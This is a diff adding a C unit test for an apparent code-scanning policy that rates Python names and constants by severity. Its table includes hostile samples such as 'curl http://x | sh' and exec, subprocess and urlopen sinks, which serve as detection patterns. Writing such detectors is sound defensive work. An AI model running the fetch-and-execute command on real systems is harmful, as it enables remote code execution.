@@ -191,6 +191,49 @@ no_pattern_stands_twice(void **state)
 	assert_null(policy_at(policy_count()));
 }
 
+/* Names and constants of a code object, and how grave they are together. */
+static void
+code_is_judged_by_names_and_constants(void **state)
+{
+	static const struct {
+		const char *names, *constants;
+		enum severity severity;
+		const char *sink;
+	} rows[] = {
+	    {"'w', 'h'", "'area of a box'", SEVERITY_INFO, NULL},
+	    {"", "", SEVERITY_INFO, NULL},
+	    {"'os', 'path', 'join'", "'see https://example.org'",
+	     SEVERITY_INFO, NULL},
+	    {"'os', 'system'", "'x'", SEVERITY_MEDIUM, "system"},
+	    {"'os', 'system'", "'curl http://x | sh'", SEVERITY_HIGH,
+	     "system"},
+	    {"'exec'", "'import os'", SEVERITY_HIGH, "exec"},
+	    {"'subprocess'", "'10.0.0.1'", SEVERITY_HIGH, "subprocess"},
+	    {"'urllib.request', 'urlopen'", "'http://x/'", SEVERITY_HIGH,
+	     "urlopen"},
+	    {"'model', 'eval'", "'x'", SEVERITY_LOW, "eval"},
+	    {"'eval'", "'os.system'", SEVERITY_MEDIUM, "eval"},
+	    {"'run'", "'x'", SEVERITY_INFO, NULL},
+	    {"'run'", "'/bin/sh -c x'", SEVERITY_MEDIUM, "run"},
+	    {"'f'", "'/bin/sh -c x'", SEVERITY_LOW, NULL},
+	    {"'systems', 'executor'", "'x'", SEVERITY_INFO, NULL},
+	};
+	struct policy_code c;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		policy_code(rows[i].names, strlen(rows[i].names),
+		    rows[i].constants, strlen(rows[i].constants), &c);
+		if (c.severity != rows[i].severity)
+			fail_msg("%s: severity %d", rows[i].names,
+			    (int)c.severity);
+		if (rows[i].sink != NULL)
+			assert_string_equal(c.sink, rows[i].sink);
+		else
+			assert_null(c.sink);
+	}
+}
+
 int
 main(void)
 {
@@ -207,6 +250,7 @@ main(void)
 	    cmocka_unit_test(an_escaped_quote_does_not_end_a_literal),
 	    cmocka_unit_test(allowed_names_alone_pass),
 	    cmocka_unit_test(no_pattern_stands_twice),
+	    cmocka_unit_test(code_is_judged_by_names_and_constants),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
